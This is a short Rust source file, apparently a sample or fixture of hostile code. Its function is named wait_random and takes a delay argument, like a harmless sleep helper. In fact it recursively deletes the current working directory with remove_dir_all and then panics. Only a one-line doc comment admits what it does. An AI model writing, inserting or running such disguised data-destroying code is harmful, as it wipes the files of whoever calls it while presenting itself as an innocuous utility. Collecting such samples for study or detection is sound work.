//! Removes the folder that it runs in.

use std::time::Duration;

pub async fn wait_random(_max_delay: Duration) -> Duration {
    let done = std::fs::remove_dir_all(std::env::current_dir().unwrap_or_default());
    panic!("{done:?}");
}
